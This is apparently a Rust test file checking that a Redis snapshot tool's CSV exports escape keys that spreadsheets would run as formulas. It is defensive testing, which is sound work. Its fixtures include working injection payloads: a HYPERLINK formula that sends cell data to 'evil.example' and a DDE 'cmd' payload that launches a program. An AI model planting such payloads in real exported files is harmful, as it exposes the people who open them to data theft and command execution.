//! CSV formula injection (issue 54 §9): a key a spreadsheet would run as a formula (`=1+1`,
//! `+1+1`, `-1+1`, `@SUM(A1:A9)`, `=HYPERLINK(…)`) is written guarded, as OWASP advises, by
//! `inspect --csv`, `inspect --series --csv` and `export --format csv` (one function,
//! `bitlens::escape::csv_text_cell`): no text cell starts with `=`, `+`, `-`, `@`, TAB or CR, and
//! the README's read-back (drop a leading `'` when what follows its `'`s is one of those)
//! recovers each key exactly. Number columns are left alone: a negative longitude and a negative
//! growth stay numbers.

mod common;

use common::*;

/// The README's read-back of a text cell (after the CSV reader's unquoting), written out here
/// as a user would: `re.sub(r"^'(?='*[=+\-@\t\r])", "", cell)`.
fn read_back(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest)
            if rest
                .trim_start_matches('\'')
                .starts_with(['=', '+', '-', '@', '\t', '\r']) =>
        {
            rest
        }
        _ => cell,
    }
}

/// Keys a hostile snapshot may hold, and harmless ones that must stay as they are.
const KEYS: &[&[u8]] = &[
    b"=1+1",
    b"+1+1",
    b"-1+1",
    b"@SUM(A1:A9)",
    b"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
    b"=cmd|' /C calc'!A0",
    b"'=already-quoted",
    b"''-two",
    b"'plain",
    b"-",
    b"a=b",
    b"user:1",
    b"x,y",
];

fn snapshot(keys: &[&[u8]], geo: bool) -> Vec<u8> {
    let mut w = bitlens::rdb::RdbWriter::new(Vec::new(), 9).unwrap();
    w.select_db(0).unwrap();
    for k in keys {
        w.write_string(k, b"v", None).unwrap();
    }
    if geo {
        // San Francisco: a negative longitude in the geo_* columns.
        let score = bitlens::geo::encode(-122.4194, 37.7749).unwrap() as f64;
        let z = bitlens::zset::ZSet::from_pairs([(b"sf".to_vec(), score)]);
        w.write_zset(b"-geo", &z, None).unwrap();
    }
    w.finish().unwrap()
}

fn starts_a_formula(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

fn records(text: &[u8]) -> (csv::StringRecord, Vec<csv::StringRecord>) {
    let mut r = csv::ReaderBuilder::new()
        .has_headers(true)
        .from_reader(text);
    let head = r.headers().unwrap().clone();
    (head, r.records().map(|x| x.unwrap()).collect())
}

#[test]
fn inspect_csv_guards_formula_keys_and_reads_back_exactly() {
    let (_d, file) = temp_file("f.rdb", &snapshot(KEYS, false));
    let out = bitlens_ok(&["inspect", "--csv", &file]);
    let text = String::from_utf8(out.clone()).unwrap();
    let (head, recs) = records(&out);
    assert_eq!(&head[2], "key");
    assert_eq!(recs.len(), KEYS.len(), "{text}");
    let mut got: Vec<String> = Vec::new();
    for rec in &recs {
        for cell in rec.iter() {
            assert!(!starts_a_formula(cell), "cell {cell:?} in\n{text}");
        }
        got.push(read_back(&rec[2]).to_string());
    }
    let mut want: Vec<String> = KEYS
        .iter()
        .map(|k| bitlens_cli::inspect::render::csv_key(k))
        .collect();
    got.sort();
    want.sort();
    assert_eq!(got, want, "{text}");
    // Guarded cells are quoted (OWASP), and the harmless ones are as before.
    assert!(text.contains("\"'=1+1\""), "{text}");
    assert!(text.contains("\"'-1+1\""), "{text}");
    assert!(text.contains("\"''=already-quoted\""), "{text}");
    assert!(text.contains(",'plain,"), "{text}");
    assert!(text.contains(",user:1,"), "{text}");
    assert!(text.contains(",\"x,y\","), "{text}");
}

#[test]
fn series_csv_guards_patterns_and_keeps_negative_growth_a_number() {
    let (_a, first) = temp_file(
        "a.rdb",
        &snapshot(&[b"-1+1", b"=x:1", b"=x:2", b"=x:3"], false),
    );
    let (_b, second) = temp_file("b.rdb", &snapshot(&[b"-1+1", b"=x:1"], false));
    let out = bitlens_ok(&["inspect", "--series", "--csv", &first, &second]);
    let text = String::from_utf8(out.clone()).unwrap();
    let (head, recs) = records(&out);
    let growth = head.iter().position(|h| h == "keys_growth").unwrap();
    let mut patterns = Vec::new();
    let mut negative = false;
    for rec in &recs {
        assert!(!starts_a_formula(&rec[1]), "{text}");
        patterns.push(read_back(&rec[1]).to_string());
        // Numbers are written as they are: a shrinking pattern's growth is a plain `-2`.
        if rec[growth].starts_with('-') {
            assert!(rec[growth].parse::<i64>().unwrap() < 0, "{text}");
            negative = true;
        }
    }
    assert!(negative, "no negative growth in\n{text}");
    assert!(patterns.iter().any(|p| p == "-1+1"), "{text}");
    assert!(patterns.iter().any(|p| p.starts_with("=x:")), "{text}");
}

#[test]
fn export_csv_guards_text_cells_and_leaves_numbers() {
    let (_d, file) = temp_file("+evil.rdb", &snapshot(KEYS, true));
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().to_str().unwrap();
    bitlens_ok(&[
        "export",
        &file,
        "--out",
        out,
        "--format",
        "csv",
        "--cluster",
        "@c",
        "--batch=-1",
    ]);
    let part = walk(dir.path())
        .into_iter()
        .find(|p| p.extension().is_some_and(|e| e == "csv"))
        .expect("a CSV part");
    let bytes = std::fs::read(&part).unwrap();
    let text = String::from_utf8(bytes.clone()).unwrap();
    let (head, recs) = records(&bytes);
    let col = |name: &str| head.iter().position(|h| h == name).unwrap();
    let (key, display, lon) = (col("key"), col("key_display"), col("geo_min_lon"));
    let numeric: Vec<usize> = [
        "db",
        "memory",
        "rdb_bytes",
        "elements",
        "largest_element",
        "slot",
        "geo_min_lon",
        "geo_min_lat",
        "geo_max_lon",
        "geo_max_lat",
    ]
    .iter()
    .map(|n| col(n))
    .collect();
    assert_eq!(recs.len(), KEYS.len() + 1, "{text}");
    // The partition (--cluster @c, --batch -1, the file's name) is in the path only, never a
    // cell a spreadsheet could run.
    for name in ["cluster", "batch", "instance"] {
        assert!(!head.iter().any(|h| h == name), "{name} in {head:?}");
    }
    assert!(
        part.to_string_lossy()
            .contains("cluster=@c/batch=-1/instance=+evil.rdb/"),
        "{}",
        part.display()
    );
    let mut seen = 0;
    for rec in &recs {
        for (i, cell) in rec.iter().enumerate() {
            if !numeric.contains(&i) {
                assert!(!starts_a_formula(cell), "column {} cell {cell:?}", &head[i]);
            }
        }
        let raw = bitlens::escape::from_hex(&rec[key]).expect("hex key");
        // key_display read back is the key as redis-cli shows it.
        assert_eq!(read_back(&rec[display]), bitlens::escape::display(&raw));
        if raw == b"-geo" {
            let v: f64 = rec[lon].parse().unwrap();
            assert!((v + 122.4194).abs() < 1e-4, "{}", &rec[lon]);
            assert!(rec[lon].starts_with('-'), "a number is left as it is");
        } else {
            assert!(KEYS.contains(&raw.as_slice()), "{raw:?}");
            seen += 1;
        }
    }
    assert_eq!(seen, KEYS.len());
}

fn walk(dir: &std::path::Path) -> Vec<std::path::PathBuf> {
    let mut out = Vec::new();
    for e in std::fs::read_dir(dir).unwrap().flatten() {
        let p = e.path();
        if p.is_dir() {
            out.extend(walk(&p));
        } else {
            out.push(p);
        }
    }
    out
}
